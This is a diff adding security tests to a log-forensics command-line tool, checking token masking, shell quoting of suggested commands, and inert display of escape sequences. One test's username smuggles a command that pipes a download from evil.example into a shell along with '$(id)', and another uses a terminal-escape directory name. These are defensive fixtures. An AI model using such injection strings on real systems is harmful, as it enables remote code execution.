@@ -3,12 +3,19 @@
 import base64
 import json
 import os
+import shlex
 import subprocess
 import sys
 
+import polars as pl
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from tests.conftest import ROOT, at, rows_of, seed_line, write_log
+from forensics_cli.analyses.bruteforce import detect
+from forensics_cli.shellquote import shell_quoted
+from tests.conftest import ROOT, at, events_frame, rows_of, seed_line, write_log
+from tests.test_bruteforce import fail, ok
 
 
 def _jwt(claims: bytes) -> str:
@@ -239,3 +246,50 @@ def test_a_key_like_text_inside_a_string_is_not_a_repeated_key(tmp_path, run):
     assert "repeat a JSON key" not in result.stderr
     (finding,) = rows_of(result)
     assert finding["field"] == "message.token" and "repeats a JSON key" not in finding["detail"]
+
+
+def test_a_token_is_masked_in_every_printed_column_in_every_format(tmp_path, run):
+    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
+    write_log(
+        tmp_path / "a.log",
+        [
+            seed_line(
+                at(0),
+                request_id="r1",
+                event=f"login {token}",
+                path=f"/api/hooks/{token}",
+                user=token,
+                headers={"Authorization": f"token {token}"},
+            )
+        ],
+    )
+    for fmt in ("jsonl", "csv", "table"):
+        shown = run("timeline", "-q", "--request-id", "r1", "--format", fmt, tmp_path)
+        assert shown.exit_code == 0 and token not in shown.stdout and "ghp_" in shown.stdout, fmt
+        found = run("scan-secrets", "-q", "--format", fmt, tmp_path)
+        assert found.exit_code == 1 and token not in found.stdout, fmt
+    (row,) = rows_of(run("timeline", "-q", "--request-id", "r1", "--format", "jsonl", tmp_path))
+    assert row["user"].startswith("ghp_A1") and row["path"].startswith("/api/hooks/ghp_")
+
+
+@given(st.text(max_size=30))
+def test_a_hint_word_is_quoted_as_shlex_quotes_it(word):
+    quoted = pl.DataFrame({"w": [word]}).select(shell_quoted(pl.col("w"))).item()
+    assert quoted == shlex.quote(word) and shlex.split(quoted) == [word]
+
+
+def test_the_next_command_of_a_success_runs_nothing_from_the_log():
+    user = "admin'; curl evil.example | sh; echo '$(id)"
+    rows = [fail(i * 5, None, user) for i in range(12)] + [ok(70, None, user)]
+    (detail,) = detect(events_frame(rows))["detail"].to_list()
+    command = detail.split("next: ", 1)[1]
+    assert shlex.split(command)[:4] == ["apiforensics", "timeline", "--user", user]
+
+
+def test_a_directory_name_with_markup_and_escapes_reaches_the_ingest_title_inert(tmp_path, run):
+    logs = tmp_path / "[bold red]case[/] \x1b]0;pwned\x07"
+    write_log(logs / "a.log", [seed_line(at(0), request_id="r1")])
+    result = run("ingest", "--no-cache", logs / "a.log")
+    assert result.exit_code == 0
+    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
+    assert "[bold red]case[/]" in result.stdout and "\\x1b]0;pwned\\x07" in result.stdout
